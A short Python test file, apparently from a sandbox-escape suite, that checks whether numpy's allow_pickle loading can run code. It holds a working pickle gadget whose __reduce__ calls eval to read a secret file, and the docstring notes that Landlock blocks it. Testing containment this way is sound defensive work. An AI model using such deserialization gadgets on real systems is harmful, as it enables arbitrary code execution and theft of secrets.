"""Has numpy unpickle what runs a program. Stopped by: landlock."""

import io
import pickle

import numpy as np

from sim import Task


class Gadget:
    def __reduce__(self):
        return eval, ("open('SECRET_FILE').read()",)


class Candidate(Task):
    def reset(self, env):
        super().reset(env)
        file = io.BytesIO()
        np.save(file, np.array([Gadget()], dtype=object), allow_pickle=True)
        file.seek(0)
        raise RuntimeError(f"ESCAPED: {np.load(file, allow_pickle=True)} {pickle.dumps(Gadget())}")
